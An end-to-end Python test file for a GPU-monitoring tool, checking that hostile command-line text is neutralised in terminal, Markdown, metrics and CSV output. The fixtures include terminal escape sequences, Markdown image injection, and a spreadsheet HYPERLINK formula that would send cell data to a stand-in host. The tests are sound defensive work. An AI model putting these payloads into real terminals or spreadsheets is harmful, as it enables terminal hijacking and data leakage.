"""End-to-end: text that any local user chooses (their argv, the log's file
name) against the real binary (issue 24, items 4-7; issue 18, items 2-3):
--match time is bounded whatever the argv holds; no control sequence reaches
a terminal or a scrape; Markdown renders nothing from a command line;
spreadsheet formulas are neutralised in `summary --format csv`, the log stays
exact; long command lines are capped so that summary and plot read every
row; a row cut inside a quoted field costs that one row."""
import csv
import io
import json
import os
import shutil
import signal
import time

from tests.e2e.gw import GwTest, PROC

# Bytes that act on a terminal: ESC (an OSC title change, a CSI clear), C1
# controls as UTF-8 (U+009B CSI, U+009D OSC) and as raw bytes (0x9B).
HOSTILE = b"\x1b]0;owned\x07 \x1b[2J \xc2\x9b" b"2J \xc2\x9d" b"0;x\x07 \x9b" b"31m \xff"
C1_UTF8 = (b"\xc2\x9b", b"\xc2\x9d")


def has_controls(data):
    """Whether bytes hold a C0 control other than LF, DEL, a C1 control as
    UTF-8, or a raw byte 0x80..0x9F that does not continue a character."""
    if any(c < 0x20 and c != 0x0A or c == 0x7F for c in data):
        return True
    if any(s in data for s in C1_UTF8):
        return True
    text = data.decode("utf-8", errors="surrogateescape")
    return any(0xDC80 <= ord(ch) <= 0xDC9F for ch in text)


class HostileText(GwTest):
    def proc_with(self, **cmdlines):
        """A copy of the busy /proc fixture with some PIDs' cmdline replaced
        (pid442=b"..."): NUL-separated argv bytes."""
        proc = self.path("proc")
        if not os.path.exists(proc):
            shutil.copytree(os.path.join(PROC, "busy"), proc)
        for key, data in cmdlines.items():
            with open(os.path.join(proc, key[3:], "cmdline"), "wb") as f:
                f.write(data)
        return proc

    def log_rows(self, name):
        with open(self.path(name), newline="", encoding="utf-8", errors="surrogateescape") as f:
            return list(csv.DictReader(f))

    # Issue 24, item 4 (and issue 18, item 2).
    def test_match_time_is_bounded_on_a_long_argv(self):
        # 400 KB of 'A' and no 'B': 'A.*B' took 41 s per new PID before.
        big = b"\0".join([b"python3"] + [b"A" * 100000] * 4) + b"\0"
        huge = b"\0".join([b"python3", b"job.py"] + [b"--file=/data/%07d" % i for i in range(60000)])
        proc = self.proc_with(pid442=big, pid443=huge + b"\0")
        t0 = time.monotonic()
        r = self.run_gw("--count", "2", "--interval", "0.2", "--match", "A.*B", "-o", "m.csv",
                        "-q", proc=proc, timeout=60)
        took = time.monotonic() - t0
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertLess(took, 5, "a match on a long argv must not hold the samples")
        self.assertEqual(self.log_rows("m.csv"), [])
        # Without --match: the 1.5 MB command line is logged capped, with a
        # visible marker, its head and its tail; summary and plot read it.
        r = self.run_gw("--count", "2", "--interval", "0.2", "-o", "all.csv", "-q", proc=proc)
        self.assertEqual(r.returncode, 0, r.stderr)
        rows = {row["pid"]: row for row in self.log_rows("all.csv")}
        cmd = rows["443"]["cmd"]
        self.assertLessEqual(len(cmd.encode()), 4096)
        self.assertTrue(cmd.startswith("python3 job.py --file=/data/0000000 "), cmd[:80])
        self.assertIn(" [...] ", cmd)
        self.assertTrue(cmd.endswith("--file=/data/0059999"), cmd[-80:])
        self.assertLess(os.path.getsize(self.path("all.csv")), 40000)
        s = self.run_gw("summary", "all.csv", "--format", "csv")
        self.assertEqual(s.returncode, 0, s.stderr)
        self.assertNotIn(b"malformed", s.stderr)
        procs = [row for row in csv.DictReader(io.StringIO(s.stdout.decode()))
                 if row["row"] == "process"]
        self.assertEqual(sorted(p["pid"] for p in procs), ["442", "443", "444"])
        p = self.run_gw("plot", "all.csv", "-o", "all.svg")
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertNotIn(b"malformed", p.stderr)

    # Issue 24, item 5.
    def test_no_control_reaches_a_terminal_or_a_scrape(self):
        proc = self.proc_with(pid442=b"python3\0" + HOSTILE + b"\0")
        r = self.run_gw("--count", "1", "-o", "h.csv", "--summary", proc=proc)
        self.assertEqual(r.returncode, 0, r.stderr)
        self.assertIn(b"gpu_watch summary of h.csv", r.stderr)
        self.assertIn(b"owned", r.stderr)  # the text is there, made harmless
        self.assertFalse(has_controls(r.stderr), r.stderr)
        for fmt in ("text", "md"):
            s = self.run_gw("summary", "h.csv", "--format", fmt)
            self.assertEqual(s.returncode, 0, s.stderr)
            self.assertIn("\ufffd".encode(), s.stdout)
            self.assertFalse(has_controls(s.stdout), (fmt, s.stdout))
        # A log's file name is shown sanitised too.
        name = "x\x1b]0;t\x07\u009b.csv"
        with open(self.path(name), "w") as f:
            f.write("")
        s = self.run_gw("summary", name)
        self.assertEqual(s.returncode, 1)
        self.assertIn(b"is empty", s.stderr)
        self.assertFalse(has_controls(s.stderr), s.stderr)
        # The metrics: the command label, as curl or cat would show it.
        textdir = self.path("textfile")
        os.mkdir(textdir)
        prom = os.path.join(textdir, "gw.prom")
        p = self.start_gw("--interval", "0.2", "-q", "-o", "/dev/null", "--prom-textfile", prom,
                          proc=proc)
        deadline = time.monotonic() + 15
        while not os.path.exists(prom) and time.monotonic() < deadline:
            time.sleep(0.05)
        self.assertTrue(os.path.exists(prom), "no metrics file written")
        with open(prom, "rb") as f:
            text = f.read()
        p.send_signal(signal.SIGTERM)
        p.communicate(timeout=15)
        self.assertIn(b'command="python3 ', text)
        self.assertIn(b"owned", text)
        self.assertFalse(has_controls(text), text)
        text.decode("utf-8")  # valid UTF-8 throughout

    # Issue 24, item 6.
    def test_markdown_renders_nothing_from_a_command_line(self):
        cmd = b"python3\0![x](http://e.example/x.png)\0[click](http://e.example)\0<img src=y>\0a|b\0`x`\0"
        proc = self.proc_with(pid442=cmd)
        r = self.run_gw("--count", "1", "-o", "md.csv", "-q", proc=proc)
        self.assertEqual(r.returncode, 0, r.stderr)
        s = self.run_gw("summary", "md.csv", "--format", "md")
        self.assertEqual(s.returncode, 0, s.stderr)
        out = s.stdout.decode()
        # A code span with a fence longer than the backtick run inside; the
        # pipe escaped so that the cell stays one cell.
        want = "`` python3 ![x](http://e.example/x.png) [click](http://e.example) <img src=y> a\\|b `x` ``"
        self.assertIn(" | " + want + " |\n", out)
        line = next(l for l in out.splitlines() if "e.example" in l)
        # Outside the code spans nothing is left that Markdown would render.
        outside = line.replace(want, "")
        for bad in ("![", "](", "<img", "http"):
            self.assertNotIn(bad, outside)

    # Issue 24, item 7.
    def test_spreadsheet_formulas(self):
        formula = b'=HYPERLINK("http://e.example/?"&A1,"x")'
        proc = self.proc_with(pid442=formula + b"\0arg\0", pid443=b"@SUM(1+1)\0", pid444=b"-2+3\0")
        r = self.run_gw("--count", "1", "-o", "f.csv", "-q", proc=proc)
        self.assertEqual(r.returncode, 0, r.stderr)
        # The log is data for programs: exact.
        rows = {row["pid"]: row["cmd"] for row in self.log_rows("f.csv")}
        self.assertEqual(rows["442"], formula.decode() + " arg")
        self.assertEqual(rows["443"], "@SUM(1+1)")
        # summary --format csv is for spreadsheets: neutralised.
        s = self.run_gw("summary", "f.csv", "--format", "csv")
        self.assertEqual(s.returncode, 0, s.stderr)
        cells = {row["pid"]: row["cmd"] for row in csv.DictReader(io.StringIO(s.stdout.decode()))
                 if row["row"] == "process"}
        self.assertEqual(cells["442"], "'" + formula.decode() + " arg")
        self.assertEqual(cells["443"], "'@SUM(1+1)")
        self.assertEqual(cells["444"], "'-2+3")

    # Issue 18, item 3: the scenario.
    def test_row_cut_inside_a_quote_costs_one_row(self):
        lines = ["timestamp,gpu_index,pid,cmd,gpu_mem_mib,sm_util_pct,mem_util_pct"]
        for i in range(1, 2001):
            s = i - 1
            ts = "2025-01-10T%02d:%02d:%02dZ" % (s // 3600, s // 60 % 60, s % 60)
            if i == 100:
                lines.append(ts + ',0,442,"python3 train.py --data ""a, b')
            else:
                lines.append(ts + ',0,442,"python3 train.py --data ""a, b""",%d,50,2'
                             % (10000 if i == 700 else 1000))
        with open(self.path("cut.csv"), "w") as f:
            f.write("\n".join(lines) + "\n")
        s = self.run_gw("summary", "cut.csv", "--format", "json")
        self.assertEqual(s.returncode, 0, s.stderr)
        d = json.loads(s.stdout)
        self.assertEqual(d["total"]["peak_gpu_mem_mib"], 10000)
        self.assertEqual(d["samples"], 1999)
        self.assertEqual(d["skipped_rows"], 1)
        self.assertEqual(d["gaps"], 0)
        self.assertIn(b"skipped 1 malformed row", s.stderr)
        t = self.run_gw("summary", "cut.csv")
        self.assertNotIn(b"pause", t.stdout)

    # Issue 24, item 5: the status line on a terminal.
    def test_status_line_sanitised(self):
        import pty
        import select
        import subprocess
        from tests.e2e import gw
        master, slave = pty.openpty()
        try:
            p = subprocess.Popen([gw.BIN, "--count", "2", "--interval", "0.2", "-o", "s.csv",
                                  "--match", "\x1b]0;x\x07\u009b" "nothing"],
                                 env=self.env(), cwd=self.tmp, stdin=subprocess.DEVNULL,
                                 stdout=subprocess.DEVNULL, stderr=slave)
            os.close(slave)
            slave = -1
            out = b""
            deadline = time.monotonic() + 20
            while time.monotonic() < deadline:
                r, _, _ = select.select([master], [], [], 0.5)
                if r:
                    try:
                        chunk = os.read(master, 65536)
                    except OSError:  # EIO: the child closed its end
                        break
                    if not chunk:
                        break
                    out += chunk
                elif p.poll() is not None:
                    break
            p.wait(timeout=10)
        finally:
            os.close(master)
            if slave >= 0:
                os.close(slave)
        self.assertEqual(p.returncode, 0, out)
        self.assertIn(b"none matched --match '", out)
        # Our own redraw (CR, ESC [K) aside, no control from the pattern.
        text = out.replace(b"\r\x1b[K", b"").replace(b"\r\n", b"\n")
        self.assertIn("\ufffd]0;x\ufffd\ufffdnothing".encode(), text)
        self.assertFalse(has_controls(text), text)
